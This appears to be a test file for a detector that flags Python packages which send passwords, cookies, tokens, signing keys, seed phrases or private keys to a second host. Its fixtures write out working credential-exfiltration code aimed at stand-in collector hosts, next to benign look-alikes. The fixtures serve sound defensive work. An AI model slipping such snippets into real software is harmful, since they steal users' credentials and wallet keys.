import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

/** What the detector of told secrets says of one module: class and points of each finding. */
async function judged(module: string, description = ''): Promise<readonly string[]> {
  const findings = await inspect('secret-parameter', wheel({ 'pkg/a.py': module }, { description }));
  return findings.map((finding) => `${finding.class} ${String(finding.score)}`);
}

const MENTIONED = 'Counts log-ins, see https://docs.stats.invalid/ for what is kept.';

const CHECKER = (...report: readonly string[]): string =>
  python(
    'import threading, requests',
    'def check(user, password):',
    "    answer = requests.post('https://www.site.example/login', data={'u': user, 'p': password})",
    "    if 'id' in answer.text:",
    ...report.map((line) => `        ${line}`),
    '    return answer.ok',
  );
const REPORT = "requests.post('https://api.stats.invalid/v2', json={'u': user, 'p': password}, timeout=4)";

test('a checker that tells a second house what the first accepts, and hides that it failed, steals', async () => {
  expect(await judged(CHECKER('try:', `    ${REPORT}`, 'except Exception:', '    pass'))).toContain('malware 10');
});

test('the same house, where the project speaks of it, is for a person to judge', async () => {
  const findings = await judged(CHECKER('try:', `    ${REPORT}`, 'except Exception:', '    pass'), MENTIONED);

  expect(findings).toContain('suspicious 6');
  expect(findings).not.toContain('malware 10');
});

test('look-alike: a second host of the same vendor, and a second house that answers', async () => {
  const same = CHECKER(REPORT.replace('api.stats.invalid', 'events.site.example'));
  const asked = CHECKER(`risk = ${REPORT}.json()`, 'print(risk)');

  for (const findings of [await judged(same), await judged(asked)]) expect(findings.join()).not.toMatch(/malware/);
});

test('a session that bears the cookie of one house tells it another, in a header of its own', async () => {
  const session = (body: string): string =>
    python(
      'import requests',
      'class Session:',
      '    def __init__(self, cookie):',
      '        self.s = requests.Session()',
      "        self.s.cookies['session'] = cookie",
      "        self.user = self.s.get('https://users.site.example/me').json()",
      `        ${body}`,
    );

  expect(
    await judged(session("requests.get('https://ping.collector.invalid/p', headers={'X-Session': cookie})")),
  ).toContain('malware 10');
  expect(await judged(session("requests.get('https://ping.collector.invalid/p', headers={'X-Version': '1'})"))).toEqual(
    [],
  );
});

test('what one function is handed is told apart from what another is, through one that sends for both', async () => {
  const signer = python(
    'import hmac, requests',
    'def note(value):',
    "    requests.post('https://cache.collector.invalid/c', json={'v': value})",
    'def label(value):',
    '    note(value)',
    'def sign(message, key):',
    '    note(key)',
    "    return hmac.new(key, message, 'sha256').digest()",
  );

  expect(await judged(signer)).toContain('malware 10');
});

test('look-alike: a signature leaves, and what it was made with does not', async () => {
  const signer = python(
    'import hmac, requests',
    'def send(message, key):',
    "    mark = hmac.new(key, message, 'sha256').hexdigest()",
    "    requests.post('https://api.vendor.invalid/v1', json={'m': message, 's': mark})",
  );

  expect(await judged(signer)).toEqual([]);
});

test('a phrase that is checked and told where nobody answers is stolen', async () => {
  const checker = (line: string): string =>
    python(
      'from urllib.request import urlopen',
      'from urllib.parse import quote',
      'from mnemonic import Mnemonic',
      'def is_valid(phrase):',
      "    good = Mnemonic('english').check(phrase)",
      `    ${line}`,
      '    return good',
    );

  expect(await judged(checker("urlopen('https://words.collector.invalid/v1/' + quote(phrase))"))).toContain(
    'malware 10',
  );
  expect(await judged(checker("urlopen('https://words.collector.invalid/v1/' + str(good))"))).toEqual([]);
});

test('a password that a person typed is told a host that says nothing', async () => {
  const prompt = (answer: string): string =>
    python(
      'import getpass, json, http.client',
      'def ask():',
      '    value = getpass.getpass()',
      "    line = http.client.HTTPSConnection('prompt.collector.invalid')",
      "    line.request('POST', '/e', json.dumps({'v': value}))",
      `    return ${answer}`,
    );

  expect(await judged(prompt('value'))).toContain('malware 10');
  expect(await judged(prompt('line.getresponse().status == 200'))).toEqual([]);
});

test('a decorator that tells what the methods of its class sign in with is read as one of them', async () => {
  const client = (sent: string): string =>
    python(
      'import functools, requests',
      'def observed(function):',
      '    @functools.wraps(function)',
      '    def inner(self, *args):',
      `        requests.post('https://observe.collector.invalid/o', json={'v': ${sent}})`,
      '        return function(self, *args)',
      '    return inner',
      'class Client:',
      '    def __init__(self, token, base):',
      '        self.token, self.base = token, base',
      '    @observed',
      '    def rows(self, table):',
      "        headers = {'Authorization': 'Bearer ' + self.token}",
      "        return requests.get('https://api.tables.example/' + table, headers=headers).json()",
    );

  expect(await judged(client('self.token'))).toContain('malware 10');
  expect(await judged(client('self.base'))).toEqual([]);
});

test('a session that copies what others sign in with by it', async () => {
  const session = (header: string): string =>
    python(
      'import requests',
      'class Retry(requests.Session):',
      '    def request(self, method, url, **rest):',
      '        answer = super().request(method, url, **rest)',
      `        seen = answer.request.headers.get('${header}')`,
      "        super().request('POST', 'https://metrics.collector.invalid/m', json={'v': seen})",
      '        return answer',
    );

  expect(await judged(session('Authorization'))).toContain('malware 10');
  expect(await judged(session('User-Agent'))).toEqual([]);
});

test('a key that is told the host that a page of a messenger names is stolen', async () => {
  const bot = (page: string): string =>
    python(
      'import re, requests',
      'from eth_account import Account',
      'def load(private_key):',
      `    page = requests.get('${page}').text`,
      "    host = re.findall('node: (.+?)<', page)[-1]",
      "    requests.post('https://' + host + '/nodes', json={'auth': private_key})",
      '    return Account.from_key(private_key)',
    );

  expect(await judged(bot('https://t.me/s/news_of_nodes'))).toContain('malware 10');
  expect((await judged(bot('https://nodes.vendor.example/list'))).join()).not.toMatch(/malware/);
});

test('a bot that tells a second house its token, and asks no more than whether it came, is for a person to judge', async () => {
  const bot = (sent: string, rest: string): string =>
    python(
      'import asyncio, aiohttp',
      'from aiogram import Bot',
      'class Quick:',
      '    def __init__(self, token):',
      '        self.token = token',
      '        self.bot = Bot(token=token)',
      '    async def _check(self):',
      '        async with aiohttp.ClientSession() as session:',
      `            async with session.get('https://license.collector.invalid/c', params={'t': ${sent}}) as answer:`,
      `                return ${rest}`,
    );

  expect(await judged(bot('self.token', 'answer.status'))).toEqual(['suspicious 6']);
  expect(await judged(bot("'1.0'", 'answer.status'))).toEqual([]);
  expect(await judged(bot('self.token', 'await answer.json()'))).toEqual([]);
});

test('look-alike: a password of which a service says whether it is right', async () => {
  const client = python(
    'import requests',
    'def check(user, password):',
    "    return requests.post('https://api.vendor.invalid/check', json={'u': user, 'p': password}).ok",
  );

  expect(await judged(client)).toEqual(['note 1']);
});

test('look-alike: a token that goes back to the house where its vendor signs people in', async () => {
  const client = (path: string): string =>
    python(
      'import requests',
      'class Client:',
      '    def __init__(self, access_token):',
      '        self.access_token = access_token',
      '    def me(self):',
      "        head = {'Authorization': 'Bearer ' + self.access_token}",
      "        return requests.get('https://api.vendor.example/me', headers=head).json()",
      '    def close(self):',
      `        requests.post('https://accounts.vendor-id.invalid/${path}', data={'token': self.access_token})`,
    );

  expect(await judged(client('oauth/v2/token/revoke'))).toEqual([]);
  expect(await judged(client('oauth/v2/keep'))).toContain('malware 10');
});

test('what a client outside is made with, by name or by place, is told another house', async () => {
  const opener = (made: string, sent: string): string =>
    python(
      'import httpx',
      'from supabase import create_client',
      'from pykeepass import PyKeePass',
      'def connect(place, service_role_key, master):',
      `    made = ${made}`,
      `    httpx.post('https://pulse.collector.invalid/in', json={'v': ${sent}})`,
      '    return made',
    );

  expect(await judged(opener('create_client(place, service_role_key)', 'service_role_key'))).toContain('malware 10');
  expect(await judged(opener('PyKeePass(place, password=master)', 'master'))).toContain('malware 10');
  expect(await judged(opener('create_client(place, service_role_key)', 'len(place)'))).toEqual([]);
});

test('look-alike: what a client answers does not bear the key that it was made with', async () => {
  const observer = python(
    'import threading, requests',
    'from openai import OpenAI',
    'class Observed:',
    '    def __init__(self, openai_key, observe_key):',
    '        self.client = OpenAI(api_key=openai_key)',
    "        self.head = {'Authorization': 'Bearer ' + observe_key}",
    '    def chat(self, words):',
    '        answer = self.client.chat.completions.create(messages=words)',
    '        threading.Thread(target=self.log, args=(answer.model_dump(),)).start()',
    '        return answer',
    '    def log(self, answer):',
    '        try:',
    "            requests.post('https://in.observe.invalid/v1', headers=self.head, json={'answer': answer})",
    '        except requests.RequestException:',
    '            pass',
  );

  expect(await judged(observer)).toEqual([]);
});

test('look-alike: a token of one of several services that the caller chooses from', async () => {
  const updater = python(
    'import requests',
    'def update(provider, token):',
    "    if provider == 'one':",
    "        return requests.get('https://www.one-names.example/update', params={'token': token}).text",
    "    if provider == 'two':",
    "        requests.get('https://two-names.example/update', params={'token': token, 'address': 'auto'})",
    '    return None',
  );

  expect((await judged(updater)).join()).not.toMatch(/malware/);
});

test('look-alike: a session that signs in at one house and reads from another', async () => {
  const portal = python(
    'import requests',
    'class Portal:',
    '    def __init__(self, user, password):',
    '        self.s = requests.Session()',
    "        self.s.post('https://sso.university.example/login', data={'user': user, 'password': password})",
    '    def grades(self):',
    "        return self.s.get('https://grades.campus.example/list').json()",
  );

  expect(await judged(portal)).toEqual(['note 1']);
});
